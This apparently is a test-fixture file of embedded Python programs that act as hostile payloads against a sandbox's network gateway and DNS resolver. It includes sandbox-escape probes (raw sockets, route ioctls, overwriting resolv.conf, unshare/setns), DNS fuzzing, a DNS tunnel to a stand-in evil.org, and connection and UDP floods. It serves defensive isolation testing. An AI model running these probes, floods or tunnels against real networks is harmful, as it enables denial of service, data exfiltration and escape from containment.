/** Programs for byName.test.ts and floods.test.ts, in Python: what a payload tries against a network by name. */

/** Each name and address, at a port that is not listed, by libc and by a question of its own; and what is no address at all. */
export const reaches = `
import json, socket, struct, sys
names, addresses, port, abstract, listed, wait = json.loads(sys.argv[1])
reached = []
def tried(what, action):
    try:
        if action(): reached.append(what)
    except (OSError, UnicodeError, ValueError, OverflowError, struct.error): pass
def says(host, port):
    with socket.create_connection((host, port), wait) as s: return s.recv(9)
def asked(name):
    labels = b''.join(bytes([min(len(one), 63)]) + one for one in name.split(b'.'))
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(wait); u.connect(('198.18.0.1', 53))
    u.send(struct.pack('>6H', 1, 256, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', 1, 1))
    answer = u.recv(1500)
    # The address is last, where there is one.
    return struct.unpack('>H', answer[6:8])[0] > 0 and says(socket.inet_ntoa(answer[-4:]), port)
for name in names:
    raw = name.encode()
    tried(name, lambda: says(raw, port))
    tried('asked ' + name, lambda: len(raw) < 1000 and asked(raw))
for address in addresses:
    tried(address + ' at a listed port', lambda: says(address, listed))
def abstractly(name):
    s = socket.socket(socket.AF_UNIX); s.connect(name); return True
# Some versions of Node.js make the name as long as it may be.
tried('an abstract socket', lambda: abstractly(b'\\0' + abstract.encode()))
tried('an abstract socket', lambda: abstractly((b'\\0' + abstract.encode()).ljust(108, b'\\0')))
print(json.dumps(reached))
`

/** What changes its own network, or leaves it: the error of each. `own` is where the gateway waits for a listed name. */
export const changes = `
import ctypes, errno, fcntl, json, os, socket, struct, sys
own = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
said = {}
def tries(what, action):
    try: action(); said[what] = 'succeeded'
    except OSError as error: said[what] = errno.errorcode[error.errno]
def call(result):
    if result < 0: raise OSError(ctypes.get_errno(), '')
kept = []
def taken(kind, address, port, family=socket.AF_INET):
    s = socket.socket(family, kind); kept.append(s)
    for option in socket.SO_REUSEADDR, socket.SO_REUSEPORT: s.setsockopt(socket.SOL_SOCKET, option, 1)
    s.bind((address, port))
    if kind == socket.SOCK_STREAM: s.listen()
tries('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP))
tries('raw 6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
tries('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
tries('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
any_ = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
inet = lambda text: struct.pack('HH4s8x', socket.AF_INET, 0, socket.inet_aton(text))
tries('address', lambda: fcntl.ioctl(any_, 0x8916, struct.pack('16s16s', b'lo', inet('10.9.9.9'))))
route = lambda: struct.pack('L', 0) + inet('198.18.0.0') + inet('0.0.0.0') + inet('255.255.0.0') + struct.pack('HhLLQhxxxxxxQLLH6x', 1, 0, 0, 0, 0, 0, 0, 0, 0, 0)
tries('route', lambda: fcntl.ioctl(any_, 0x890B, route().ljust(120, b'\\0')))
tries('device', lambda: fcntl.ioctl(any_, 0x8914, struct.pack('16sH14x', b'lo', 0)))
tries('resolver by UDP', lambda: taken(socket.SOCK_DGRAM, '198.18.0.1', 53))
tries('resolver by TCP', lambda: taken(socket.SOCK_STREAM, '198.18.0.1', 53))
tries('port of a name', lambda: taken(socket.SOCK_STREAM, '198.18.1.0', own))
tries('port of all', lambda: taken(socket.SOCK_STREAM, '0.0.0.0', own))
tries('resolv.conf', lambda: open('/etc/resolv.conf', 'w'))
tries('resolv.conf, another in its place', lambda: os.rename('/tmp', '/etc/resolv.conf'))
tries('unshare', lambda: call(libc.unshare(0x40000000)))
tries('unshare with a user', lambda: call(libc.unshare(0x50000000)))
tries('setns', lambda: call(libc.setns(os.open('/proc/1/ns/net', 0), 0x40000000)))
print(json.dumps(said))
`

/** The next honest connection. */
export const honest = `
import socket, sys
with socket.create_connection(('api.example.com', int(sys.argv[1])), 60) as s: print(s.recv(9).decode())
`

/** Malformed questions by a fixed seed, to both of the resolver's sockets. */
export const fuzzed = `
import random, select, socket, struct, time
made = random.Random(4711)
good = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\3api\\7example\\3com\\0' + struct.pack('>2H', 1, 1)
optional = good[:11] + b'\\1' + good[12:] + b'\\0' + struct.pack('>HHIH', 41, 1232, 0, 0)
def message():
    kind = made.randrange(4)
    if kind == 0: return made.randbytes(made.randrange(600))
    whole = bytearray(made.choice([good, optional]) + made.randbytes(made.choice([0, 0, 1, 40])))
    if kind == 1: return bytes(whole[:made.randrange(len(whole))])
    for _ in range(made.randrange(1, 6)): whole[made.randrange(len(whole))] = made.choice([0, 0xc0, 0xff, 0x3f, made.randrange(256)])
    # A pointer to a place near it.
    if kind == 3: at = made.randrange(12, len(whole) - 1); whole[at:at + 2] = struct.pack('>H', 0xc000 + made.randrange(len(whole)))
    return bytes(whole)
for _ in range(100):
    try:
        with socket.create_connection(('198.18.0.1', 53), 10) as s:
            for _ in range(5):
                one = message()
                s.sendall(struct.pack('>H', len(one) if made.randrange(4) else made.randrange(65536)) + one)
            s.shutdown(made.choice([socket.SHUT_WR, socket.SHUT_RDWR]))
    except OSError: pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('198.18.0.1', 53)); u.setblocking(False)
heard = 0
for index in range(6000):
    try: u.send(message())
    except OSError: pass
    if index % 20 == 0: select.select([u], [], [], 0.01)
    try:
        while True: u.recv(4096); heard += 1
    except OSError: pass
# So many questions a second are answered: the next ones are.
time.sleep(1)
print('answered' if heard > 100 else heard)
`

/** Questions for names that are not listed, each with something of the payload's in it. */
export const tunnel = `
import os, socket, struct
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('198.18.0.1', 53)); u.setblocking(False)
heard = 0
for index in range(20000):
    label = os.urandom(15).hex().encode()
    try: u.send(struct.pack('>6H', index, 256, 1, 0, 0, 0) + bytes([30]) + label + b'\\4evil\\3org\\0' + struct.pack('>2H', 1 if index % 2 else 16, 1))
    except OSError: pass
    try:
        while True:
            # No such name.
            if u.recv(4096)[3] & 15 == 3: heard += 1
            else: print('an answer')
    except OSError: pass
print('refused' if heard > 0 else 'silence')
`

/** So many connections: each word is how. */
export const connections = `
import resource, socket, struct, sys
port, how, count, atonce = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
address = socket.gethostbyname('api.example.com')
held = []
for index in range(count):
    try:
        s = socket.socket()
        if how == 'unfinished': s.setblocking(False)
        s.connect((address, port))
        if how == 'slow': s.send(b'G')
        # A reset in place of an end: socket(7), SO_LINGER.
        if how == 'reset': s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.close(); continue
    except OSError: pass
    held.append(s)
    if len(held) >= atonce: held.pop(0).close()
if how == 'slow':
    for s in held:
        try: s.send(b'E')
        except OSError: pass
print('tried')
`

/** Asks little, of servers that say much, and reads nothing: by TCP and by UDP. */
export const unread = `
import socket, sys, time
tcp, udp = map(int, sys.argv[1:])
held = []
for _ in range(20):
    s = socket.create_connection(('flood.example.com', tcp), 10); s.send(b'x'); held.append(s)
for _ in range(20):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('flood.example.com', udp)); u.send(b'x'); held.append(u)
held[-1].settimeout(10)
print(len(held[-1].recv(65536)))
print('ready', flush=True)
sys.stdin.read()
`

/** UDP of its own making, from port 0, that nothing can answer: needs CAP_NET_RAW. */
export const fromNowhere = `
import socket, struct, sys
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
question = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\3api\\7example\\3com\\0' + struct.pack('>2H', 1, 1)
for address, port in ('198.18.0.1', 53), (socket.gethostbyname('flood.example.com'), int(sys.argv[1])):
    raw.sendto(struct.pack('>4H', 0, port, 8 + len(question), 0) + question, (address, 0))
print('sent')
`
